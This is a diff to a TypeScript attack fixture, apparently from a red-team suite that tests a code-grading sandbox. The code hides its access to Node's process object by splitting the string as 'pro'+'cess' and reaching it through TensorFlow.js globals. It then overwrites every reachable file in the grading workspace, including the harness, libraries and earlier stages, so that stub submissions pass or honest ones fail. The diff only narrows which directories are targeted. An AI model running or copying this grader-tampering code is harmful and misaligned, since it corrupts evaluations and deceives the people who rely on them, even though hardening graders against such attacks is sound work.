@@ -1,4 +1,4 @@
-// @attack Writes into every file of the grading workspace it can reach (the harness, tfjs-core, the runtime, the earlier stages) so that later submissions, stubs included, pass, or honest ones fail.
+// @attack Writes into every file of the grading workspace it can reach (the harness, tfjs-core, the runtime, the earlier stages) so that later submissions, stubs included, pass, or honest ones fail. It aims at the workspace alone (the folders above its run), so that it harms nothing else even where the sandbox is missing.
 // @prelude
 const g = (tf as unknown as { ENV: { global: Record<string, any> } }).ENV.global;
 const fs = g['pro' + 'cess'].getBuiltinModule('fs');
@@ -15,7 +15,8 @@ const poison = (dir: string, depth: number) => {
     }
   }
 };
-for (const start of ['/grade', '/tmp', '/proc/self/cwd/../..', '/proc/1/cwd']) poison(start, 0);
-try { fs.writeFileSync('/tmp/poisoned', 'x'); } catch {}
+const path = g['pro' + 'cess'].getBuiltinModule('path');
+const harness = path.dirname(g['pro' + 'cess'].argv[1] ?? '/grade/ws/x');
+for (const start of [harness, '/proc/self/cwd/../..']) poison(start, 0);
 // @body
 throw new Error(`wrote ${written} files`);
